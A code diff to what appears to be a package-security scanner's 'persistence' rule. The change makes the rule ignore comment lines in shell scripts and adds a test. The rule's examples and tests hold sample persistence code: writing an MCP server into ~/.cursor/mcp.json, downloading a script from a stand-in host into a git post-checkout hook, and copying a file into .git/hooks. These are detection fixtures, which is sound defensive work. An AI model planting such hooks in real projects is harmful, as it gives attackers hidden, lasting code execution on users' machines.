@@ -18,7 +18,7 @@ crate::declare_rule! {
     /// code (git hook managers such as pre-commit and husky 4 write `.git/hooks` from
     /// `postinstall`): AI agent and editor configuration (`.claude/settings.json` hooks, MCP
     /// configs, `.vscode/tasks.json`), git hooks, a service worker written into the app's
-    /// `public` folder.
+    /// `public` folder. Comment lines of a shell script are not read.
     id: "persistence",
     category: Other,
     severity: Medium,
@@ -49,6 +49,22 @@ crate::declare_rule! {
            "const fs = require('fs'); fs.writeFileSync(path.join(os.homedir(), '.cursor', 'mcp.json'), JSON.stringify({ mcpServers: { docs: { command: 'npx' } } }))",
            "const fs = require('fs'); const list = fs.readdirSync(path.join(os.homedir(), '.config', 'autostart')); fs.writeFileSync('report.json', JSON.stringify(list))",
            "const fs = require('fs'); fs.writeFileSync(path.join(out, 'public', 'sw.js'), generateSW(manifest))"],
+}
+
+/// A shell script with its comment lines blanked (offsets kept): the git hook pre-commit 2.0.0
+/// runs names `.git/hooks` and a help URL in comments, which neither write a hook nor reach
+/// the network.
+fn shell_code(text: &str) -> String {
+    let mut out = String::with_capacity(text.len());
+    for line in text.split_inclusive('\n') {
+        let t = line.trim_start();
+        if t.starts_with('#') && !t.starts_with("#!") {
+            out.extend(line.chars().map(|c| if c == '\n' { '\n' } else { ' ' }));
+        } else {
+            out.push_str(line);
+        }
+    }
+    out
 }
 
 fn check(pkg: &Package, out: &mut Emitter) {
@@ -137,7 +153,13 @@ fn check(pkg: &Package, out: &mut Emitter) {
         if is_doc_path(&f.path) {
             continue;
         }
-        let text = all_text(f);
+        let shell = f.kind == crate::package::FileKind::Shell;
+        let code = if shell {
+            std::borrow::Cow::Owned(shell_code(all_text(f)))
+        } else {
+            std::borrow::Cow::Borrowed(all_text(f))
+        };
+        let text: &str = &code;
         if !crate::mentions!(
             text,
             [
@@ -235,7 +257,11 @@ fn check(pkg: &Package, out: &mut Emitter) {
             continue;
         }
         let off = first.filter(|o| *o < f.text.len()).unwrap_or(0) as u32;
-        let net = crate::rules::data::has_network(f);
+        let net = if shell {
+            text.contains("http")
+        } else {
+            crate::rules::data::has_network(f)
+        };
         // A weak foothold alone is what hook managers do at install (pre-commit, pre-push, husky
         // 4 write .git/hooks from postinstall): worth a look, damning only beside network code.
         let sev = if weak_only && !net {
@@ -295,6 +321,33 @@ mod tests {
             "{hook_manager}require('https').get('https://h.example/p.sh', r => r.pipe(fs.createWriteStream(hooks + '/post-checkout')));\n"
         );
         assert_eq!(severities(&with_download), vec![Severity::Critical]);
+    }
+
+    /// pre-commit 2.0.0's hook script (run by git, named by its install script) mentions
+    /// `.git/hooks` and a help URL only in comments; a script that writes into `.git/hooks` is
+    /// still found.
+    #[test]
+    fn a_shell_script_naming_git_hooks_in_comments_is_no_foothold() {
+        let files = |hook: &str| {
+            vec![
+                (
+                    "package.json".to_string(),
+                    br#"{"name":"hooks","version":"1.0.0","scripts":{"install":"sh hook"}}"#
+                        .to_vec(),
+                ),
+                ("hook".to_string(), hook.as_bytes().to_vec()),
+            ]
+        };
+        let run = |hook: &str| {
+            let pkg = Package::build(files(hook), Vec::new(), None, &Limits::default());
+            let mut out = Emitter::new(super::RULE.meta);
+            (super::RULE.check)(&pkg, &mut out);
+            out.hits.iter().map(|h| h.severity).collect::<Vec<_>>()
+        };
+        let comments = "#!/usr/bin/env bash\n# the .git/hooks wrapper unsets it too\n# https://docs.example/hooks\nunset GIT_LITERAL_PATHSPECS\nexec node \"$HOOK\"\n";
+        assert!(run(comments).is_empty());
+        let writes = format!("{comments}cp \"$SRC\" .git/hooks/pre-commit\n");
+        assert_eq!(run(&writes), vec![Severity::High]);
     }
 
     /// A strong foothold at install time stays critical without any network code.
